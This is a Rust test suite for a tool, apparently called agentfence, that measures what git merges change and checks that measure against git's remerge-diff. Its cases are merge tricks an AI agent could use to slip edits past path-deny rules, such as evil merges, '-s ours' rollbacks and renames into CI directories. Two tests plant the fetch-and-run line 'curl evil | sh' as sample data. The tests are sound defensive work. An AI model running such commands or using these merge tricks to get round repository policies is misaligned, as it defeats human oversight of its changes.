//! What a merge is charged for, against git's own remerge-diff: `agentfence explain
//! --format json <merge>` lists exactly what a merge is charged for, and git's
//! `log --diff-merges=remerge --numstat` is the oracle. Each case is a way an agent could
//! try to land a change through a merge: an evil merge, `-s ours`, a conflict resolved by
//! hand, a binary or modify/delete conflict resolved as one side, a rename that carries an
//! edit into a denied directory, an ancestor's tree re-committed as a merge, an octopus, a
//! criss-cross history, unrelated histories, and merge settings that would change git's
//! automatic merge (attributes and config, which the measurement ignores).

use std::collections::BTreeMap;

use agentfence::git::{ChangeScope, Repo};
use agentfence::model::ObjectId;
use serde_json::Value;

use crate::support::{Server, TestRepo, code, stderr, stdout};

/// Per path: `Some((added, deleted))`, or `None` for a binary file.
type Charge = BTreeMap<String, Option<(u64, u64)>>;

/// What `agentfence explain` says `rev` is charged for.
fn charged(repo: &TestRepo, rev: &str) -> Charge {
    let out = repo.run(&["explain", "--format", "json", rev]);
    assert_eq!(code(&out), 0, "explain failed: {}", stderr(&out));
    let json: Value = serde_json::from_str(&stdout(&out)).expect("explain prints JSON");
    let files = json["commits"][0]["files"]
        .as_array()
        .expect("files is an array");
    files
        .iter()
        .map(|f| {
            let path = f["path"].as_str().expect("path").to_owned();
            let stat = if f["binary"].as_bool().expect("binary") {
                None
            } else {
                Some((
                    f["added"].as_u64().expect("added"),
                    f["deleted"].as_u64().expect("deleted"),
                ))
            };
            (path, stat)
        })
        .collect()
}

/// What git's remerge-diff shows for `rev` (no rename detection: every case here charges
/// plain paths), with git's config and attributes out of the way.
fn remerge(repo: &TestRepo, rev: &str) -> Charge {
    let out = repo.git(&[
        "-c",
        "core.quotePath=false",
        "-c",
        "merge.conflictStyle=merge",
        "-c",
        "merge.renames=true",
        "--attr-source=4b825dc642cb6eb9a060e54bf8d69288fbee4904",
        "log",
        "-1",
        "--diff-merges=remerge",
        "--numstat",
        "--no-renames",
        "--format=",
        rev,
    ]);
    parse_numstat(&out)
}

/// `git diff --numstat` between two revisions, as a charge.
fn numstat(repo: &TestRepo, from: &str, to: &str) -> Charge {
    let out = repo.git(&[
        "-c",
        "core.quotePath=false",
        "diff",
        "--numstat",
        "--no-renames",
        from,
        to,
    ]);
    parse_numstat(&out)
}

fn parse_numstat(text: &str) -> Charge {
    text.lines()
        .filter(|l| !l.is_empty())
        .map(|line| {
            let mut parts = line.splitn(3, '\t');
            let (a, d) = (parts.next().expect("added"), parts.next().expect("deleted"));
            let path = parts.next().expect("path").to_owned();
            let stat =
                (a != "-").then(|| (a.parse().expect("a number"), d.parse().expect("a number")));
            (path, stat)
        })
        .collect()
}

fn total(stat: &Option<(u64, u64)>) -> u64 {
    stat.map_or(0, |(a, d)| a + d)
}

/// Every path git charges is charged at least as much.
fn assert_covers(ours: &Charge, git: &Charge) {
    for (path, stat) in git {
        let mine = ours
            .get(path)
            .unwrap_or_else(|| panic!("{path} is not charged; ours {ours:?}, git {git:?}"));
        assert!(
            total(mine) >= total(stat),
            "{path}: charged {mine:?}, git shows {stat:?}"
        );
    }
}

/// The merge paths the checks must run the path rules on besides the charged ones.
fn also_checked(repo: &TestRepo, rev: &str) -> Vec<String> {
    let opened = Repo::discover(repo.path()).expect("open the test repository");
    let id = ObjectId::from_hex(&repo.rev(rev)).expect("an id");
    agentfence::pipeline::read_changes(&opened, &id, ChangeScope::Full)
        .expect("read the merge")
        .also_checked
}

/// A repository with `main` holding `files`, and a branch `side` at the same commit.
fn base(files: &[(&str, &str)]) -> TestRepo {
    let repo = TestRepo::new();
    for (path, text) in files {
        repo.write(path, text);
    }
    repo.commit("Base");
    repo.git(&["branch", "side"]);
    repo
}

fn numbered(prefix: &str, n: usize) -> String {
    (1..=n).map(|i| format!("{prefix} {i}\n")).collect()
}

#[test]
fn a_clean_merge_costs_nothing() {
    let repo = base(&[("a.txt", &numbered("a", 20)), ("b.txt", "b\n")]);
    repo.write("a.txt", numbered("a", 20).replace("a 2\n", "main 2\n"));
    repo.commit("Main edits the top");
    repo.git(&["checkout", "-q", "side"]);
    repo.write("a.txt", numbered("a", 20).replace("a 19\n", "side 19\n"));
    repo.write("c.txt", numbered("c", 300));
    repo.commit("Side edits the bottom and adds a file");
    repo.git(&["checkout", "-q", "main"]);
    repo.git(&["merge", "-q", "--no-ff", "-m", "Merge side", "side"]);
    assert_eq!(remerge(&repo, "HEAD"), Charge::new());
    assert_eq!(charged(&repo, "HEAD"), Charge::new());
    assert_eq!(also_checked(&repo, "HEAD"), vec!["a.txt"]);
}

#[test]
fn an_evil_merge_is_charged_for_its_own_edit() {
    let repo = base(&[("a.txt", "a\n"), ("deploy.yml", &numbered("step", 5))]);
    repo.write("a.txt", "a\nmain\n");
    repo.commit("Main");
    repo.git(&["checkout", "-q", "side"]);
    repo.write("b.txt", "b\n");
    repo.commit("Side");
    repo.git(&["merge", "-q", "--no-ff", "--no-commit", "main"]);
    repo.write(
        "deploy.yml",
        numbered("step", 5).replace("step 3", "curl evil | sh"),
    );
    repo.write("new.txt", numbered("smuggled", 7));
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "-m", "Merge main"]);
    let git = remerge(&repo, "HEAD");
    assert_eq!(git.len(), 2, "{git:?}");
    assert_eq!(charged(&repo, "HEAD"), git);
}

#[test]
fn merge_s_ours_is_charged_for_the_change_it_drops() {
    let repo = base(&[("deny/rules.yml", &numbered("rule", 10)), ("a.txt", "a\n")]);
    repo.write("deny/rules.yml", numbered("rule", 12));
    repo.commit("Main tightens the rules");
    repo.git(&["checkout", "-q", "side"]);
    repo.write("a.txt", "a\nside\n");
    repo.commit("Side");
    // Records main as merged while keeping the old rules: merged back, they would land.
    repo.git(&["merge", "-q", "-s", "ours", "-m", "Merge main", "main"]);
    let git = remerge(&repo, "HEAD");
    assert_eq!(git.get("deny/rules.yml"), Some(&Some((0, 2))), "{git:?}");
    assert_eq!(charged(&repo, "HEAD"), git);
}

#[test]
fn an_ancestors_tree_recommitted_as_a_merge_is_charged_for_the_rollback() {
    let repo = base(&[
        (".agentfence.yaml", "version: 1\n# strict\n"),
        (".github/workflows/ci.yml", &numbered("check", 4)),
        ("src/lib.rs", "fn a() {}\n"),
    ]);
    let old = repo.rev("HEAD");
    repo.write(".agentfence.yaml", "version: 1\n# stricter\npolicies: {}\n");
    repo.write(".github/workflows/ci.yml", numbered("check", 9));
    repo.commit("Tighten the rules and CI");
    repo.write("src/lib.rs", "fn a() {}\nfn b() {}\n");
    repo.commit("More code");
    // git commit-tree <old tree> -p main -p <old commit>: every parent path matches one
    // parent, so "differs from every parent" charged nothing.
    let tree = repo.rev(&format!("{old}^{{tree}}"));
    let merge = repo
        .git(&[
            "commit-tree",
            &tree,
            "-p",
            "main",
            "-p",
            &old,
            "-m",
            "Merge old work",
        ])
        .trim()
        .to_owned();
    let git = remerge(&repo, &merge);
    for path in [".agentfence.yaml", ".github/workflows/ci.yml", "src/lib.rs"] {
        assert!(git.contains_key(path), "git charges {path}: {git:?}");
    }
    assert_eq!(charged(&repo, &merge), git);
}

#[test]
fn a_text_conflict_resolved_by_hand_is_charged_at_least_its_remerge_diff() {
    let text = numbered("line", 12);
    let repo = base(&[("conf.txt", &text), ("other.txt", "o\n")]);
    repo.write("conf.txt", text.replace("line 6\n", "main six\n"));
    repo.commit("Main");
    repo.git(&["checkout", "-q", "side"]);
    repo.write("conf.txt", text.replace("line 6\n", "side six\nside 6b\n"));
    repo.commit("Side");
    let merged = repo.git_output(&["merge", "-q", "main"]);
    assert!(!merged.status.success(), "the merge must conflict");
    repo.write("conf.txt", text.replace("line 6\n", "resolved\n"));
    repo.write("other.txt", "o\nextra\n");
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "--no-edit"]);
    let git = remerge(&repo, "HEAD");
    let ours = charged(&repo, "HEAD");
    assert_covers(&ours, &git);
    assert_eq!(
        ours.keys().collect::<Vec<_>>(),
        git.keys().collect::<Vec<_>>()
    );
    // The markers and both sides' lines out, the resolution in: exactly git's count here.
    assert_eq!(ours["conf.txt"], git["conf.txt"]);
    assert_eq!(ours["other.txt"], git["other.txt"]);
}

#[test]
fn a_binary_conflict_resolved_as_ours_is_charged() {
    let repo = base(&[("logo.bin", "bin\0base\n"), ("a.txt", "a\n")]);
    repo.write("logo.bin", "bin\0main version\n");
    repo.commit("Main");
    repo.git(&["checkout", "-q", "side"]);
    repo.write("logo.bin", "bin\0side version, longer\n");
    repo.commit("Side");
    let merged = repo.git_output(&["merge", "-q", "main"]);
    assert!(!merged.status.success(), "the merge must conflict");
    repo.git(&["checkout", "--ours", "logo.bin"]);
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "--no-edit"]);
    // git keeps ours in its remerge tree, so remerge-diff shows nothing at all.
    assert_eq!(remerge(&repo, "HEAD"), Charge::new());
    let ours = charged(&repo, "HEAD");
    assert_eq!(ours.get("logo.bin"), Some(&None), "{ours:?}");
    assert_eq!(ours.len(), 1, "{ours:?}");
}

#[test]
fn a_modify_delete_conflict_is_charged_either_way_it_is_resolved() {
    let text = numbered("keep", 30);
    for delete in [true, false] {
        let repo = base(&[("md.txt", &text), ("a.txt", "a\n")]);
        repo.write("md.txt", format!("{text}main adds\n"));
        repo.commit("Main modifies");
        repo.git(&["checkout", "-q", "side"]);
        repo.remove("md.txt");
        repo.commit("Side deletes");
        let merged = repo.git_output(&["merge", "-q", "main"]);
        assert!(!merged.status.success(), "the merge must conflict");
        if delete {
            repo.git(&["rm", "-q", "md.txt"]);
        } else {
            repo.git(&["add", "md.txt"]);
        }
        repo.git(&["commit", "-q", "--no-edit"]);
        let git = remerge(&repo, "HEAD");
        let ours = charged(&repo, "HEAD");
        assert_covers(&ours, &git);
        // Either resolution is as large as the whole file against one parent.
        assert_eq!(total(&ours["md.txt"]), 31, "delete={delete}: {ours:?}");
        if delete {
            assert_eq!(git["md.txt"], Some((0, 31)));
        } else {
            assert_eq!(git, Charge::new(), "git keeps the modified side");
        }
    }
}

#[test]
fn a_rename_carrying_an_edit_into_a_denied_directory_is_checked_not_charged() {
    let yaml = numbered("step", 8);
    let repo = base(&[("src/deploy.yml", &yaml), ("README.md", "r\n")]);
    std::fs::create_dir_all(repo.path().join(".github/workflows")).expect("mkdir");
    repo.git(&["mv", "src/deploy.yml", ".github/workflows/deploy.yml"]);
    repo.commit("Main moves the deploy file under CI");
    repo.git(&["checkout", "-q", "side"]);
    repo.write(
        "src/deploy.yml",
        yaml.replace("step 4", "step 4: curl evil | sh"),
    );
    repo.commit("Agent edits an allowed file");
    repo.git(&["checkout", "-q", "main"]);
    repo.git(&["merge", "-q", "--no-ff", "-m", "Merge side", "side"]);
    let landed = repo.git(&["show", "HEAD:.github/workflows/deploy.yml"]);
    assert!(
        landed.contains("curl evil"),
        "git's merge followed the rename"
    );
    assert_eq!(remerge(&repo, "HEAD"), Charge::new());
    assert_eq!(charged(&repo, "HEAD"), Charge::new());
    assert_eq!(
        also_checked(&repo, "HEAD"),
        vec![".github/workflows/deploy.yml"]
    );
}

#[test]
fn a_merge_path_matching_no_parent_is_checked_including_deletions() {
    let repo = base(&[("a.txt", &numbered("a", 10)), ("gone.txt", "g\n")]);
    repo.write("a.txt", numbered("a", 10).replace("a 1\n", "main\n"));
    repo.commit("Main");
    repo.git(&["checkout", "-q", "side"]);
    repo.write("a.txt", numbered("a", 10).replace("a 9\n", "side\n"));
    repo.commit("Side");
    repo.git(&["merge", "-q", "--no-ff", "--no-commit", "main"]);
    repo.remove("gone.txt");
    repo.git(&["add", "-A"]);
    repo.git(&[
        "commit",
        "-q",
        "-m",
        "Merge main, deleting a file both parents have",
    ]);
    assert_eq!(also_checked(&repo, "HEAD"), vec!["a.txt", "gone.txt"]);
    assert_eq!(charged(&repo, "HEAD"), remerge(&repo, "HEAD"));
}

#[test]
fn an_octopus_is_charged_its_largest_diff_at_every_path_that_differs_from_any_parent() {
    let repo = base(&[("a.txt", &numbered("a", 5)), ("b.txt", "b\n")]);
    let mut tips = Vec::new();
    for (branch, file, lines) in [("one", "one.txt", 3), ("two", "two.txt", 6)] {
        repo.git(&["checkout", "-q", "-b", branch, "main"]);
        repo.write(file, numbered(branch, lines));
        tips.push(repo.commit(branch));
    }
    repo.git(&["checkout", "-q", "main"]);
    repo.write("a.txt", numbered("a", 8));
    let main = repo.commit("Main");
    repo.git(&["merge", "-q", "--no-ff", "--no-commit", "one", "two"]);
    repo.write("b.txt", "b\nevil\n");
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "-m", "Octopus"]);
    let merge = repo.rev("HEAD");
    assert_eq!(
        repo.git(&["log", "-1", "--format=%P"]).split(' ').count(),
        3
    );
    // The oracle: per path, the largest of git's diffs against each parent.
    let mut want = Charge::new();
    for parent in [main.as_str(), &tips[0], &tips[1]] {
        for (path, stat) in numstat(&repo, parent, &merge) {
            let slot = want.entry(path).or_insert(stat);
            if total(&stat) > total(slot) {
                *slot = stat;
            }
        }
    }
    assert_eq!(want.len(), 4, "{want:?}");
    assert_eq!(charged(&repo, &merge), want);
    assert_eq!(also_checked(&repo, &merge), vec!["b.txt"]);
}

#[test]
fn a_criss_cross_merge_is_charged_as_git_remerges_it() {
    let repo = base(&[("f.txt", &numbered("f", 30)), ("g.txt", &numbered("g", 30))]);
    repo.write("f.txt", numbered("f", 30).replace("f 3\n", "main 3\n"));
    repo.commit("Main 1");
    repo.git(&["checkout", "-q", "side"]);
    repo.write("g.txt", numbered("g", 30).replace("g 3\n", "side 3\n"));
    repo.commit("Side 1");
    let side1 = repo.rev("HEAD");
    repo.git(&["merge", "-q", "--no-ff", "-m", "Side takes main", "main~0"]);
    repo.git(&["checkout", "-q", "main"]);
    repo.git(&["merge", "-q", "--no-ff", "-m", "Main takes side", &side1]);
    repo.write(
        "f.txt",
        numbered("f", 30)
            .replace("f 3\n", "main 3\n")
            .replace("f 20\n", "main 20\n"),
    );
    repo.commit("Main 2");
    repo.git(&["checkout", "-q", "side"]);
    repo.write(
        "g.txt",
        numbered("g", 30)
            .replace("g 3\n", "side 3\n")
            .replace("g 25\n", "side 25\n"),
    );
    repo.commit("Side 2");
    repo.git(&["checkout", "-q", "main"]);
    repo.git(&["merge", "-q", "--no-ff", "--no-commit", "side"]);
    repo.write("g.txt", numbered("g", 30).replace("g 3\n", "rewritten\n"));
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "-m", "Criss-cross merge with an edit"]);
    let bases = repo.git(&["merge-base", "--all", "HEAD^1", "HEAD^2"]);
    assert_eq!(
        bases.lines().count(),
        2,
        "a criss-cross has two merge bases"
    );
    let git = remerge(&repo, "HEAD");
    assert_eq!(git.len(), 1, "{git:?}");
    assert_eq!(charged(&repo, "HEAD"), git);
}

#[test]
fn a_merge_of_unrelated_histories_is_charged_as_git_remerges_it() {
    let repo = base(&[("a.txt", "a\n")]);
    repo.git(&["checkout", "-q", "--orphan", "other"]);
    repo.git(&["rm", "-q", "-rf", "."]);
    repo.write("vendored/x.txt", numbered("x", 4));
    repo.commit("Other history");
    repo.git(&["checkout", "-q", "main"]);
    repo.git(&[
        "merge",
        "-q",
        "--no-ff",
        "--no-commit",
        "--allow-unrelated-histories",
        "other",
    ]);
    repo.write("vendored/x.txt", numbered("x", 5));
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "-m", "Adopt other"]);
    let git = remerge(&repo, "HEAD");
    assert_eq!(git.get("vendored/x.txt"), Some(&Some((1, 0))), "{git:?}");
    assert_eq!(charged(&repo, "HEAD"), git);
}

#[test]
fn merge_attributes_and_config_do_not_change_the_automatic_merge() {
    // A committed `merge=union` driver resolves the conflict in git's own merge, so the
    // result would match "the automatic merge" and cost nothing. The measurement ignores
    // attributes and config: the conflict is still charged.
    let text = numbered("line", 10);
    let repo = base(&[("conf.txt", &text), (".gitattributes", "* merge=union\n")]);
    repo.git(&["config", "merge.conflictStyle", "diff3"]);
    repo.git(&["config", "merge.renames", "false"]);
    repo.write("conf.txt", text.replace("line 5\n", "main five\n"));
    repo.commit("Main");
    repo.git(&["checkout", "-q", "side"]);
    repo.write("conf.txt", text.replace("line 5\n", "side five\n"));
    repo.commit("Side");
    repo.git(&["merge", "-q", "-m", "Merge main", "main"]);
    assert_eq!(
        repo.git(&["show", "HEAD:conf.txt"]),
        text.replace("line 5\n", "side five\nmain five\n"),
        "the union driver resolved the conflict"
    );
    let git = remerge(&repo, "HEAD");
    let ours = charged(&repo, "HEAD");
    assert_eq!(git.get("conf.txt"), Some(&Some((0, 3))), "{git:?}");
    assert_eq!(ours, git);
}

#[test]
fn stat_still_prints_the_first_parent_diff_of_a_merge() {
    let repo = base(&[("a.txt", "a\n")]);
    repo.git(&["checkout", "-q", "side"]);
    repo.write("b.txt", numbered("b", 3));
    repo.commit("Side");
    repo.git(&["checkout", "-q", "main"]);
    repo.write("c.txt", "c\n");
    repo.commit("Main");
    repo.git(&["merge", "-q", "--no-ff", "-m", "Merge side", "side"]);
    let out = repo.run(&["stat", "HEAD", "^HEAD^1", "^HEAD^2"]);
    let id = repo.rev("HEAD");
    assert_eq!(stdout(&out), format!("{id}\n\n3\t0\tb.txt\n"));
}

#[test]
fn a_pushed_merge_is_judged_by_its_remerge_and_writes_nothing_on_the_server() {
    let server = Server::new();
    let client = TestRepo::new();
    client.remote(&server);
    client.write(
        ".agentfence.yaml",
        "version: 1\nagents:\n  - name: bot\n    match: {pusher: [svc-bot]}\n    policy: agents\npolicies:\n  agents:\n    paths: {deny: ['deny/**']}\n",
    );
    client.write("deny/rules.yml", numbered("rule", 10));
    client.write("a.txt", numbered("a", 10));
    client.commit("Base");
    client.git(&["push", "-q", "origin", "main"]);
    server.install_hook();
    let human = [("AGENTFENCE_PUSHER", "alice")];
    let bot = [("AGENTFENCE_PUSHER", "svc-bot")];
    let push = |args: &[&str], env: &[(&str, &str)]| {
        let mut cmd = client.push_cmd(args);
        for (k, v) in env {
            cmd.env(k, v);
        }
        cmd.output().expect("run git push")
    };

    client.write("deny/rules.yml", numbered("rule", 12));
    client.write("a.txt", numbered("a", 10).replace("a 5\n", "main 5\n"));
    client.commit("A human tightens the rules");
    assert_eq!(code(&push(&["-q", "origin", "main"], &human)), 0);

    // The agent merges main with -s ours: main's tighter rules silently dropped.
    client.git(&["checkout", "-q", "-b", "agent/x", "main~1"]);
    client.write("b.txt", "b\n");
    client.commit("Agent work");
    client.git(&["merge", "-q", "-s", "ours", "-m", "Merge main", "main"]);
    let out = push(&["origin", "agent/x"], &bot);
    let err = stderr(&out);
    assert_ne!(code(&out), 0, "the -s ours merge was accepted:\n{err}");
    assert!(
        err.contains("path-denied") && err.contains("deny/rules.yml"),
        "{err}"
    );
    assert_eq!(server.ref_id("refs/heads/agent/x"), None);

    // A real merge with a conflict the agent resolves inside its boundary is accepted,
    // and the automatic merge redone in memory leaves no object on the server.
    client.git(&["reset", "-q", "--hard", "HEAD^"]);
    client.write("a.txt", numbered("a", 10).replace("a 5\n", "agent 5\n"));
    client.commit("Agent edits the same line");
    let merged = client.git_output(&["merge", "-q", "main"]);
    assert!(!merged.status.success(), "the merge must conflict");
    client.write("a.txt", numbered("a", 10).replace("a 5\n", "both 5\n"));
    client.git(&["add", "-A"]);
    client.git(&["commit", "-q", "--no-edit"]);
    let out = push(&["origin", "agent/x"], &bot);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(
        server.ref_id("refs/heads/agent/x"),
        Some(client.rev("HEAD"))
    );
    let unreachable = server.git(&["fsck", "--unreachable", "--no-reflogs", "--no-progress"]);
    assert_eq!(unreachable, "", "objects the hook wrote");
}

/// Per path of a real merge: numstat (`None` for binary) and the old path of a rename.
type Renamed = BTreeMap<String, (Option<(u64, u64)>, Option<String>)>;

/// `git log --diff-merges=remerge --numstat -z -M100%` of many merges, by merge id (exact
/// renames only, as the contract pairs them).
fn remerge_many(dir: &std::path::Path, merges: &[String]) -> BTreeMap<String, Renamed> {
    let mut cmd = std::process::Command::new("git");
    crate::support::git_env(&mut cmd)
        .arg("-C")
        .arg(dir)
        .args([
            "-c",
            "merge.conflictStyle=merge",
            "log",
            "--no-walk=unsorted",
            "--diff-merges=remerge",
            "--numstat",
            "-z",
            "-M100%",
            "--format=@%H",
        ])
        .args(merges);
    let out = cmd.output().expect("git log");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut all = BTreeMap::new();
    let mut current: Option<String> = None;
    let mut fields = out
        .stdout
        .split(|&b| b == 0)
        .map(|f| String::from_utf8_lossy(f).into_owned());
    while let Some(field) = fields.next() {
        let mut field = field.trim_start_matches('\n').to_owned();
        if let Some(rest) = field.strip_prefix('@') {
            let (id, after) = rest.split_once('\n').unwrap_or((rest, ""));
            current = Some(id.to_owned());
            all.insert(id.to_owned(), Renamed::new());
            field = after.trim_start_matches('\n').to_owned();
        }
        if field.is_empty() {
            continue;
        }
        let mut parts = field.splitn(3, '\t');
        let (a, d, path) = (
            parts.next().expect("added"),
            parts.next().expect("deleted"),
            parts.next().expect("path"),
        );
        let stat = (a != "-").then(|| (a.parse().expect("num"), d.parse().expect("num")));
        let (path, old) = if path.is_empty() {
            let old = fields.next().expect("rename source");
            (fields.next().expect("rename target"), Some(old))
        } else {
            (path.to_owned(), None)
        };
        let merge = current.as_ref().expect("a merge line first");
        all.get_mut(merge)
            .expect("inserted")
            .insert(path, (stat, old));
    }
    all
}

/// Runs against the merges of a real history (set `AGENTFENCE_ORACLE_REPO` to a clone,
/// e.g. of rust-lang/cargo, and optionally `AGENTFENCE_ORACLE_MERGES`, default 200):
/// charged paths and counts against git's remerge-diff, per merge exact, over (only
/// conflicted paths charged more, as the contract says) or under. Prints the counts.
#[test]
#[ignore = "needs a real history: set AGENTFENCE_ORACLE_REPO to a clone"]
#[allow(clippy::print_stderr)] // the agreement counts are the point of the run
fn real_merges_agree_with_remerge_diff() {
    let dir = std::path::PathBuf::from(
        std::env::var_os("AGENTFENCE_ORACLE_REPO").expect("set AGENTFENCE_ORACLE_REPO"),
    );
    let count: usize = std::env::var("AGENTFENCE_ORACLE_MERGES")
        .ok()
        .map_or(200, |n| n.parse().expect("a number"));
    let mut cmd = std::process::Command::new("git");
    let out = crate::support::git_env(&mut cmd)
        .arg("-C")
        .arg(&dir)
        .args([
            "rev-list",
            "--merges",
            "--max-parents=2",
            "-n",
            &count.to_string(),
            "HEAD",
        ])
        .output()
        .expect("git rev-list");
    let merges: Vec<String> = String::from_utf8(out.stdout)
        .expect("hex")
        .lines()
        .map(str::to_owned)
        .collect();
    assert!(!merges.is_empty(), "no merges in {}", dir.display());
    let git = remerge_many(&dir, &merges);
    let mut ours: BTreeMap<String, Renamed> = BTreeMap::new();
    for chunk in merges.chunks(100) {
        let mut cmd = std::process::Command::new(crate::support::bin());
        let out = crate::support::git_env(&mut cmd)
            .arg("-C")
            .arg(&dir)
            .args(["explain", "--format", "json"])
            .args(chunk)
            .output()
            .expect("run agentfence");
        assert_eq!(code(&out), 0, "{}", stderr(&out));
        let json: Value = serde_json::from_str(&stdout(&out)).expect("JSON");
        for commit in json["commits"].as_array().expect("commits") {
            let files = commit["files"].as_array().expect("files");
            let charge = files
                .iter()
                .map(|f| {
                    let path = f["path"].as_str().expect("path").to_owned();
                    let stat = (!f["binary"].as_bool().expect("binary")).then(|| {
                        (
                            f["added"].as_u64().expect("n"),
                            f["deleted"].as_u64().expect("n"),
                        )
                    });
                    // explain names a deletion's path as its old path too.
                    let old = f["old_path"]
                        .as_str()
                        .filter(|old| *old != path)
                        .map(str::to_owned);
                    (path, (stat, old))
                })
                .collect();
            ours.insert(commit["commit"].as_str().expect("id").to_owned(), charge);
        }
    }
    let (mut exact, mut over, mut under) = (0, 0, Vec::new());
    for merge in &merges {
        let (g, o) = (&git[merge], &ours[merge]);
        if g == o {
            exact += 1;
        } else if g.iter().all(|(path, (stat, _))| {
            o.get(path)
                .is_some_and(|(mine, _)| total(mine) >= total(stat))
        }) {
            over += 1;
        } else {
            under.push(merge.clone());
        }
    }
    eprintln!(
        "{} merges of {}: {exact} exact, {over} charged more (conflicted paths), {} under: {under:?}",
        merges.len(),
        dir.display(),
        under.len()
    );
    assert!(
        under.len() * 1000 <= merges.len(),
        "more than one merge in a thousand charged less than git shows: {under:?}"
    );
}

/// `Repo::merge_bases` against `git merge-base --all` for the parents of `merge`.
fn assert_bases_match_git(dir: &std::path::Path, merge: &str) {
    let git = |args: &[&str]| {
        let mut cmd = std::process::Command::new("git");
        let out = crate::support::git_env(&mut cmd)
            .arg("-C")
            .arg(dir)
            .args(args)
            .output()
            .expect("run git");
        String::from_utf8(out.stdout).expect("hex")
    };
    let parents: Vec<String> = git(&["log", "-1", "--format=%P", merge])
        .split_whitespace()
        .map(str::to_owned)
        .collect();
    let mut want: Vec<String> = git(&["merge-base", "--all", &parents[0], &parents[1]])
        .lines()
        .map(str::to_owned)
        .collect();
    want.sort();
    let repo = Repo::discover(dir).expect("open");
    let id = |hex: &str| ObjectId::from_hex(hex).expect("id");
    let mut got: Vec<String> = repo
        .merge_bases(&id(&parents[0]), &id(&parents[1]))
        .expect("merge bases")
        .iter()
        .map(|b| b.to_string())
        .collect();
    got.sort();
    assert_eq!(got, want, "merge {merge}");
}

#[test]
fn merge_bases_are_gits_for_one_two_and_no_common_ancestor() {
    // One base, and the two of a criss-cross (built as in the criss-cross test).
    let repo = base(&[("f.txt", "f\n")]);
    repo.write("f.txt", "main\n");
    repo.commit("Main 1");
    repo.git(&["checkout", "-q", "side"]);
    repo.write("g.txt", "g\n");
    let side1 = repo.commit("Side 1");
    repo.git(&["merge", "-q", "--no-ff", "-m", "Side takes main", "main~0"]);
    repo.git(&["checkout", "-q", "main"]);
    repo.git(&["merge", "-q", "--no-ff", "-m", "Main takes side", &side1]);
    assert_bases_match_git(repo.path(), "HEAD");
    repo.write("f.txt", "main 2\n");
    repo.commit("Main 2");
    repo.git(&["checkout", "-q", "side"]);
    repo.write("g.txt", "side 2\n");
    repo.commit("Side 2");
    repo.git(&["checkout", "-q", "main"]);
    repo.git(&["merge", "-q", "--no-ff", "-m", "Criss-cross", "side"]);
    assert_bases_match_git(repo.path(), "HEAD");
    repo.git(&["checkout", "-q", "--orphan", "other"]);
    repo.git(&["rm", "-q", "-rf", "."]);
    repo.write("x.txt", "x\n");
    repo.commit("Other history");
    repo.git(&["checkout", "-q", "main"]);
    repo.git(&[
        "merge",
        "-q",
        "--allow-unrelated-histories",
        "-m",
        "Adopt",
        "other",
    ]);
    assert_bases_match_git(repo.path(), "HEAD");
}

/// `Repo::merge_bases` against `git merge-base --all` on every merge of a real history
/// (`AGENTFENCE_ORACLE_REPO`, `AGENTFENCE_ORACLE_MERGES` as above).
#[test]
#[ignore = "needs a real history: set AGENTFENCE_ORACLE_REPO to a clone"]
fn real_merge_bases_agree_with_git() {
    let dir = std::path::PathBuf::from(
        std::env::var_os("AGENTFENCE_ORACLE_REPO").expect("set AGENTFENCE_ORACLE_REPO"),
    );
    let count = std::env::var("AGENTFENCE_ORACLE_MERGES").unwrap_or_else(|_| "200".to_owned());
    let mut cmd = std::process::Command::new("git");
    let out = crate::support::git_env(&mut cmd)
        .arg("-C")
        .arg(&dir)
        .args([
            "rev-list",
            "--merges",
            "--max-parents=2",
            "-n",
            &count,
            "HEAD",
        ])
        .output()
        .expect("git rev-list");
    for merge in String::from_utf8(out.stdout).expect("hex").lines() {
        assert_bases_match_git(&dir, merge);
    }
}
